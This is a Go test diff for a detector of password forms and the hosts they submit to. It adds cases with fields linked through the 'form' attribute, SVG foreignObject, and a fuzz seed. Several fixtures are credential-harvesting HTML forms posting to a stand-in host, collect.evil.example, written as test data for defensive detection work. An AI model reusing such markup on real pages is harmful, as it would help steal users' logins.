@@ -62,6 +62,11 @@ func TestPasswordForms(t *testing.T) {
 		{"a password field after its form closed", page, `<form action="https://a.example/s"><input name="q"></form><input type="password"><script>go()</script>`, nil, true},
 		{"two forms, the second with the field", "", `<form action="https://search.example/"><input name=q></form><form action="https://collect.evil.example/p"><input type=password></form>`, []string{"collect.evil.example"}, false},
 		{"a form left open to the end", page, `<form action="https://collect.evil.example/p"><input type=password>`, []string{"collect.evil.example"}, false},
+		{"a field outside that names its form", page, `<form id="f" action="https://collect.evil.example/p"><input name="u"><button>Sign in</button></form><input type="password" name="p" form="f">`, []string{"collect.evil.example"}, false},
+		{"a field that names its form before it", "", `<input type=password form=f><form id=f action="https://collect.evil.example/p"><input name=u></form>`, []string{"collect.evil.example"}, false},
+		{"a field in one form that names another", page, `<form action="https://search.example/"><input type=password form=x></form><form id=x action="https://collect.evil.example/p"></form>`, []string{"search.example", "collect.evil.example"}, false},
+		{"a field that names its form in an SVG", svg, `<svg><foreignObject><form id="f" action="https://collect.evil.example/p"/><input type="password" form="f"/></foreignObject></svg>`, []string{"collect.evil.example"}, false},
+		{"a field that names a form no document holds, with script", page, `<input type=password form=nowhere><script>go()</script>`, nil, true},
 		{"a hidden input named password", "", `<form action="https://a.example/"><input type="hidden" name="password"></form>`, nil, false},
 	} {
 		t.Run(tc.name, func(t *testing.T) {
@@ -96,6 +101,7 @@ func FuzzPasswordForms(f *testing.F) {
 	f.Add([]byte(`<form action="https://a.example/"><input type=password></form>`))
 	f.Add([]byte(`<svg><foreignObject><form action="//b.example"><input type="PASSWORD"/><button formaction="https://c.example/">x</button></form></foreignObject></svg>`))
 	f.Add([]byte(`<form><form action="https://d.example/"><input type='&#112;assword'></form></form><input type=password>`))
+	f.Add([]byte(`<input type=password form=f><form id=f action="https://e.example/"></form><svg><input type="password" form="g"/></svg>`))
 	f.Fuzz(func(t *testing.T, doc []byte) {
 		possible := bytes.Contains(bytes.ToLower(doc), []byte("password")) || bytes.IndexByte(doc, '&') >= 0
 		c := &collector{max: 20, hosts: hostCache{}}
